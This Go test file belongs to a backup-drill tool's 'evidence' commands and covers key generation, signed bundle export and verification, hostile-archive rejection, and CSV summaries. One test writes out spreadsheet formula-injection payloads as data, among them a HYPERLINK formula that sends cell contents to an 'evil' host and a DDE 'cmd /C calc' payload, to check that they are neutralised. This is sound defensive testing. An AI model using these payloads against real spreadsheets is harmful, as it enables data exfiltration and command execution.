package cli

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/firedrill-dev/firedrill/drill"
	"github.com/firedrill-dev/firedrill/internal/evidence"
	"github.com/firedrill-dev/firedrill/internal/evidence/evidencetest"
	"github.com/firedrill-dev/firedrill/internal/finding"
)

// keyPair makes a key pair with the command itself.
func keyPair(t *testing.T) (key, pub string) {
	t.Helper()
	dir := t.TempDir()
	res := run(t, context.Background(), nil, "evidence", "keygen", "--out-dir", dir)
	require.Equal(t, ExitOK, res.code, res.String())
	assert.Contains(t, res.stdout, "fingerprint: sha256:")
	return filepath.Join(dir, evidence.PrivateKeyFile), filepath.Join(dir, evidence.PublicKeyFile)
}

func TestEvidence_KeygenNeverOverwrites(t *testing.T) {
	key, _ := keyPair(t)
	before, err := os.ReadFile(key)
	require.NoError(t, err)
	res := run(t, context.Background(), nil, "evidence", "keygen", "--out-dir", filepath.Dir(key))
	assert.Equal(t, ExitError, res.code)
	assert.Contains(t, res.stderr, "never overwrites")
	assert.Contains(t, res.stderr, "Hint: move the existing key pair away")
	after, err := os.ReadFile(key)
	require.NoError(t, err)
	assert.Equal(t, before, after)
}

func TestEvidence_ExportVerifyTamperSummary(t *testing.T) {
	ctx := context.Background()
	state := writeHistory(t)
	key, pub := keyPair(t)
	const id = "fd-20261103-090000-cccc"
	dir := filepath.Join(state, "drills", id)
	// A credential that reached the record must not reach the bundle.
	require.NoError(t, os.WriteFile(filepath.Join(dir, "notes.txt"), []byte("token AKIAEXAMPLEEXAMPLE12\n"), 0o644))
	env := map[string]string{"FIREDRILL_STATE_DIR": state, "AWS_ACCESS_KEY_ID": "AKIAEXAMPLEEXAMPLE12"}

	res := run(t, ctx, env, "evidence", "export", id, "--key", key, "-o", "json")
	require.Equal(t, ExitOK, res.code, res.String())
	var ex drill.Kept
	require.NoError(t, json.Unmarshal([]byte(res.stdout), &ex))
	assert.Equal(t, filepath.Join(dir, "evidence.tar.gz"), ex.File)
	bundle, err := os.ReadFile(ex.File)
	require.NoError(t, err)
	assert.NotContains(t, string(evidencetest.Gunzip(t, bundle)), "AKIAEXAMPLEEXAMPLE12")

	// The key can come from the environment too; same key, same bytes.
	pem, err := os.ReadFile(key)
	require.NoError(t, err)
	out := filepath.Join(t.TempDir(), "b.tar.gz")
	env2 := map[string]string{"FIREDRILL_STATE_DIR": state, "AWS_ACCESS_KEY_ID": "AKIAEXAMPLEEXAMPLE12", evidenceKeyEnv: string(pem)}
	res = run(t, ctx, env2, "evidence", "export", id, "-f", out)
	require.Equal(t, ExitOK, res.code, res.String())
	again, err := os.ReadFile(out)
	require.NoError(t, err)
	assert.Equal(t, bundle, again)
	assert.NotContains(t, res.stdout+res.stderr, "PRIVATE KEY")

	res = run(t, ctx, nil, "evidence", "verify", ex.File, "--public-key", pub)
	assert.Equal(t, ExitOK, res.code, res.String())
	assert.Contains(t, res.stdout, "INTACT")

	bad := filepath.Join(t.TempDir(), "bad.tar.gz")
	require.NoError(t, os.WriteFile(bad, bundle[:len(bundle)-20], 0o644))
	res = run(t, ctx, nil, "evidence", "verify", bad, "--public-key", pub)
	assert.Equal(t, ExitDrillFailed, res.code, res.String())
	assert.Contains(t, res.stdout, "NOT INTACT")
	assert.Contains(t, res.stdout, "DAMAGED")

	_, otherPub := keyPair(t)
	res = run(t, ctx, nil, "evidence", "verify", ex.File, "--public-key", otherPub, "-o", "json")
	assert.Equal(t, ExitDrillFailed, res.code, res.String())
	assert.Contains(t, res.stdout, `"kind": "signature"`)

	// The summary lists the exported drill with its bundle; the others
	// with none.
	res = run(t, ctx, env, "evidence", "summary", "--from", "2026-11-01", "--to", "2026-11-03", "-o", "csv")
	require.Equal(t, ExitOK, res.code, res.String())
	rows, err := csv.NewReader(strings.NewReader(res.stdout)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 4, res.stdout)
	assert.Equal(t, "fd-20261101-090000-aaaa", rows[1][0], "oldest first")
	last := map[string]string{}
	for i, h := range rows[0] {
		last[h] = rows[3][i]
	}
	assert.Equal(t, id, last["drill_id"])
	assert.Equal(t, ex.SHA256, last["bundle_sha256"])
	assert.Equal(t, "fail", last["result"])
	assert.Equal(t, "95.0", last["rto_seconds"])
	assert.Empty(t, rows[1][15], "the first drill was never exported")

	// -f writes the same bytes to a file, replacing it, and says so. The
	// file keeps its mode (0600 stays 0600), a link to it stays a link,
	// and a FILE.tmp of the user's is left alone (drill.WriteFileAtomic).
	outDir := t.TempDir()
	file, link := filepath.Join(outDir, "drills.csv"), filepath.Join(outDir, "link.csv")
	require.NoError(t, os.WriteFile(file, []byte("old and longer than the summary"+strings.Repeat(".", 4096)), 0o600))
	require.NoError(t, os.WriteFile(link+".tmp", []byte("mine"), 0o644))
	require.NoError(t, os.Symlink("drills.csv", link))
	stdout := res.stdout
	res = run(t, ctx, env, "evidence", "summary", "--from", "2026-11-01", "--to", "2026-11-03", "-o", "csv", "-f", link)
	require.Equal(t, ExitOK, res.code, res.String())
	assert.Equal(t, "Summary of 3 drills (-o csv): "+link+"\n", res.stdout)
	written, err := os.ReadFile(file)
	require.NoError(t, err)
	assert.Equal(t, stdout, string(written))
	info, err := os.Lstat(link)
	require.NoError(t, err)
	assert.NotZero(t, info.Mode()&os.ModeSymlink, "the link stays a link")
	info, err = os.Stat(file)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0o600), info.Mode().Perm())
	mine, err := os.ReadFile(link + ".tmp")
	require.NoError(t, err)
	assert.Equal(t, "mine", string(mine))

	res = run(t, ctx, env, "evidence", "summary", "--from", "2026-11-02", "--to", "2026-11-02", "-o", "json")
	require.Equal(t, ExitOK, res.code, res.String())
	var jsDoc struct {
		Schema string           `json:"schema"`
		Drills []drill.AuditRow `json:"drills"`
	}
	require.NoError(t, json.Unmarshal([]byte(res.stdout), &jsDoc))
	assert.Equal(t, "firedrill.dev/evidence-summary/v1", jsDoc.Schema)
	js := jsDoc.Drills
	require.Len(t, js, 1, "--to is inclusive of its day, --from starts at its day")
	assert.Equal(t, "namespace-deletion", js[0].Scenario)

	res = run(t, ctx, env, "evidence", "summary")
	require.Equal(t, ExitOK, res.code, res.String())
	// The key, and so the bundle's hash, is new on every run.
	golden(t, "evidence-summary-table", strings.Replace(res.stdout, ex.SHA256[:12], "<sha256>    ", 1))
}

func TestEvidence_Errors(t *testing.T) {
	ctx := context.Background()
	state := writeHistory(t)
	key, _ := keyPair(t)
	env := map[string]string{"FIREDRILL_STATE_DIR": state}
	tests := []struct {
		name string
		args []string
		code int
		want string
	}{
		{"no key", []string{"evidence", "export", "fd-20261101-090000-aaaa"}, ExitUsage, "Hint: make a key pair with 'firedrill evidence keygen'"},
		{"unknown drill", []string{"evidence", "export", "fd-nope", "--key", key}, ExitError, "run 'firedrill history'"},
		{"public key as private", []string{"evidence", "export", "fd-20261101-090000-aaaa", "--key", strings.TrimSuffix(key, ".key") + ".pub"}, ExitError, `not a PEM "PRIVATE KEY"`},
		{"push with credentials in the URL", []string{"evidence", "export", "fd-20261101-090000-aaaa", "--key", key, "--push", "s3://user:secret@bucket/x"}, ExitUsage, "credentials in the URL are not accepted"},
		{"bad retention", []string{"evidence", "export", "fd-20261101-090000-aaaa", "--key", key, "--push", "s3://b/x", "--retention", "forever"}, ExitUsage, "want a duration like 7y"},
		{"bad lock mode", []string{"evidence", "export", "fd-20261101-090000-aaaa", "--key", key, "--push", "s3://b/x", "--lock-mode", "soft"}, ExitUsage, "want COMPLIANCE or GOVERNANCE"},
		{"verify without key", []string{"evidence", "verify", "x.tar.gz"}, ExitUsage, "public-key"},
		{"summary bad date", []string{"evidence", "summary", "--from", "last year"}, ExitUsage, "want a date like 2026-01-31"},
		{"summary backwards", []string{"evidence", "summary", "--from", "2026-12-01", "--to", "2026-01-01"}, ExitUsage, "is not after"},
		{"summary from the future", []string{"evidence", "summary", "--from", "2030-01-01"}, ExitUsage, "Error: --to 2026-12-01 (the default: now) is not after --from 2030-01-01\n"},
		// The clock is testNow, 2026-12-01T00:00:00Z: the default --to is
		// that time, shown as one where a date would not say it is earlier.
		{"summary from later today", []string{"evidence", "summary", "--from", "2026-12-01T23:00:00Z"}, ExitUsage,
			"Error: --to 2026-12-01T00:00:00Z (the default: now) is not after --from 2026-12-01T23:00:00Z\n"},
		{"summary from today", []string{"evidence", "summary", "--from", "2026-12-01"}, ExitUsage,
			"Error: --to 2026-12-01T00:00:00Z (the default: now) is not after --from 2026-12-01\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := run(t, ctx, env, tt.args...)
			assert.Equal(t, tt.code, res.code, res.String())
			assert.Contains(t, res.stderr, tt.want)
			assert.NotContains(t, res.stderr, "secret@")
		})
	}

	// A drill still running has nothing to export.
	d, err := drill.CreateDir(state, "fd-20261104-090000-dddd")
	require.NoError(t, err)
	require.NoError(t, d.WriteReport(&drill.Report{DrillID: "fd-20261104-090000-dddd", Scenario: "x", Result: drill.ResultRunning}))
	res := run(t, ctx, env, "evidence", "export", "fd-20261104-090000-dddd", "--key", key)
	assert.Equal(t, ExitError, res.code)
	assert.Contains(t, res.stderr, "no result yet")
}

func TestParseRetention(t *testing.T) {
	for in, want := range map[string]float64{"7y": 7 * 365, "400d": 400, "2w": 14} {
		d, err := parseRetention(in)
		require.NoError(t, err, in)
		assert.Equal(t, want, d.Hours()/24, in)
	}
	for _, in := range []string{"0y", "-1d", "y", "7years", "soon"} {
		_, err := parseRetention(in)
		assert.Error(t, err, in)
	}
}

func TestEvidence_RefusesToPushIntoABackupBucket(t *testing.T) {
	key, _ := keyPair(t)
	// The project scenario's primary bucket (testdata/work/scenarios).
	res := run(t, context.Background(), map[string]string{"FIREDRILL_STATE_DIR": t.TempDir()},
		"run", "shop-namespace", "--evidence-key", key, "--evidence-push", "s3://velero-backups/evidence")
	assert.Equal(t, ExitUsage, res.code, res.String())
	assert.Contains(t, res.stderr, "is the backup bucket of scenario shop-namespace")
	assert.NotContains(t, res.stderr, "[load]", "refused before the drill starts")
}

func TestEvidence_VerifyHostileBundles(t *testing.T) {
	dir, err := filepath.Abs(filepath.Join("..", "..", "..", "internal", "evidence", "testdata", "hostile"))
	require.NoError(t, err)
	pub := filepath.Join(dir, "firedrill-evidence.pub")
	tests := []struct {
		file string
		code int
		// want is in the output: the verdict, then what names the fault.
		want []string
	}{
		{"00-good", ExitOK, []string{"INTACT: the signature verifies"}},
		{"01-absolute-first", ExitDrillFailed, []string{"NOT INTACT", "UNSAFE   /report.md  an absolute path"}},
		{"02-dir-traversal", ExitDrillFailed, []string{"NOT INTACT", "../../../../tmp/sec-evil-dir/"}},
		{"03-dir-absolute", ExitDrillFailed, []string{"NOT INTACT", "/tmp/sec-evil-abs/"}},
		{"04-symlink", ExitDrillFailed, []string{"NOT INTACT", "not a regular file"}},
		{"05-hardlink", ExitDrillFailed, []string{"NOT INTACT", "not a regular file"}},
		{"06-duplicate", ExitDrillFailed, []string{"NOT INTACT", "a second entry with the same name"}},
		{"07-after-eof", ExitDrillFailed, []string{"NOT INTACT", "after the archive's end-of-archive marker"}},
		{"08-second-gzip-member", ExitDrillFailed, []string{"NOT INTACT", "a second gzip member"}},
		{"09-dir-with-size", ExitDrillFailed, []string{"NOT INTACT", "a directory entry that claims 1024 bytes"}},
		{"10-manifest-lists-twice", ExitDrillFailed, []string{"NOT INTACT", `lists "report.md" twice`}},
		{"11-short-sig", ExitDrillFailed, []string{"NOT INTACT", "SIGNATURE"}},
		{"12-manifest-extra-byte", ExitDrillFailed, []string{"NOT INTACT", "SIGNATURE"}},
		{"13-setuid-mode", ExitDrillFailed, []string{"NOT INTACT", "mode 4777"}},
		{"14-not-gzip", ExitDrillFailed, []string{"NOT INTACT", "not a gzip archive"}},
		{"15-empty", ExitDrillFailed, []string{"NOT INTACT", "not a gzip archive"}},
		{"16-signed-traversal-name", ExitDrillFailed, []string{"NOT INTACT", "the manifest lists a path that is not a file under the drill's directory"}},
		{"18-ansi-name", ExitDrillFailed, []string{"NOT INTACT: 6 problems", `"\r\x1b[2K\x1b[1A`}},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			res := run(t, context.Background(), nil, "evidence", "verify", filepath.Join(dir, tt.file+".tar.gz"), "--public-key", pub)
			assert.Equal(t, tt.code, res.code, res.String())
			for _, w := range tt.want {
				assert.Contains(t, res.stdout, w)
			}
			// Nothing of the bundle reaches the terminal unescaped: no
			// escape sequence, no carriage return to draw over a line.
			assert.NotContains(t, res.stdout+res.stderr, "\x1b")
			assert.NotContains(t, res.stdout+res.stderr, "\r")
			if tt.code != ExitOK {
				assert.NotContains(t, res.stdout, "\nINTACT")
				assert.False(t, strings.HasPrefix(res.stdout, "INTACT"))
			}
		})
	}
}

// writeDrill records a drill whose restore, checks and protection all
// passed, with the result given: only the result differs.
func writeDrill(t *testing.T, state, id, scenario string, at time.Time, result drill.Result) {
	t.Helper()
	d, err := drill.CreateDir(state, id)
	require.NoError(t, err)
	verified := true
	var phases []drill.Phase
	for _, s := range drill.Steps() {
		phases = append(phases, drill.Phase{Name: s, Status: drill.PhasePassed, CountsTowardRTO: s.CountsTowardRTO()})
	}
	require.NoError(t, d.WriteReport(&drill.Report{DrillID: id, Scenario: scenario, StartedAt: at, Result: result, Phases: phases,
		OrderVerified: &verified, RTO: drill.Measure(4*time.Hour, time.Hour), RPO: drill.Measure(24*time.Hour, time.Hour),
		Findings: []finding.Finding{
			finding.Pass("protection.bucket.object-lock", "s3://b", "locked"),
			finding.Pass("protection.backup.retention", "s3://b", "retained"),
			finding.Pass("protection.canary.delete", "s3://b", "refused"),
		}}))
	require.NoError(t, os.WriteFile(d.File("retrospective.md"), []byte("# Retrospective\n"), 0o644))
}

// A drill that failed, errored, was interrupted or died supports no
// control, even when its restore passed; the summary says why (issue 14,
// item 10).
func TestEvidenceSummary_OnlyPassingDrillsSupportControls(t *testing.T) {
	state := t.TempDir()
	t0 := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
	results := []drill.Result{drill.ResultPass, drill.ResultFail, drill.ResultError, drill.ResultInterrupted, drill.ResultRunning}
	for i, r := range results {
		writeDrill(t, state, fmt.Sprintf("fd-2026110%d-090000-aaaa", i+1), "region-loss", t0.Add(time.Duration(i)*24*time.Hour), r)
	}
	res := run(t, context.Background(), map[string]string{"FIREDRILL_STATE_DIR": state}, "evidence", "summary", "-o", "json")
	require.Equal(t, ExitOK, res.code, res.String())
	var doc struct {
		Drills []drill.AuditRow `json:"drills"`
	}
	require.NoError(t, json.Unmarshal([]byte(res.stdout), &doc))
	rows := doc.Drills
	require.Len(t, rows, len(results))
	assert.Len(t, rows[0].Controls, 10, "the drill that passed supports every built-in control")
	assert.Empty(t, rows[0].NotSupported)
	for _, row := range rows[1:] {
		assert.Empty(t, row.Controls, row.Result)
		require.Len(t, row.NotSupported, 10, row.Result)
		assert.Contains(t, row.NotSupported[0].Why, "only a drill that passed supports a control", row.Result)
	}

	res = run(t, context.Background(), map[string]string{"FIREDRILL_STATE_DIR": state}, "evidence", "summary")
	require.Equal(t, ExitOK, res.code, res.String())
	for _, want := range []string{"10  ", "0 (drill fail)", "0 (drill error)", "0 (drill interrupted)",
		// The running record has no heartbeat and is days old: it died
		// (drill.LegacyDeadAfter).
		"0 (drill died in step cleanup)"} {
		assert.Contains(t, res.stdout, want)
	}
}

// Cells a spreadsheet would run as formulas are neutralised (issue 15,
// section 7).
func TestEvidenceSummary_CSVCellsAreNotFormulas(t *testing.T) {
	state := t.TempDir()
	t0 := time.Date(2026, 11, 1, 9, 0, 0, 0, time.UTC)
	hostile := []string{`=HYPERLINK("http://evil/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}
	for i, name := range hostile {
		writeDrill(t, state, fmt.Sprintf("fd-2026110%d-090000-aaaa", i+1), name, t0.Add(time.Duration(i)*time.Hour), drill.ResultPass)
	}
	res := run(t, context.Background(), map[string]string{"FIREDRILL_STATE_DIR": state}, "evidence", "summary", "-o", "csv")
	require.Equal(t, ExitOK, res.code, res.String())
	rows, err := csv.NewReader(strings.NewReader(res.stdout)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, len(hostile)+1)
	for i, name := range hostile {
		assert.Equal(t, "'"+name, rows[i+1][1], "scenario cell")
		for _, cell := range rows[i+1] {
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q", cell)
			}
		}
	}
	assert.Equal(t, "3600.0", rows[1][4], "numbers stay numbers")
}

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "region-loss": "region-loss", "=1+1": "'=1+1", "+1": "'+1", "-1+1": "'-1+1", "@x": "'@x",
		"\tx": "'\tx", "\rx": "'\rx", "-12": "-12", "-0.5": "-0.5", "-": "'-", "-.5": "'-.5", "-1e3": "'-1e3", "95.0": "95.0",
	} {
		assert.Equal(t, want, csvCell(in), "%q", in)
	}
}
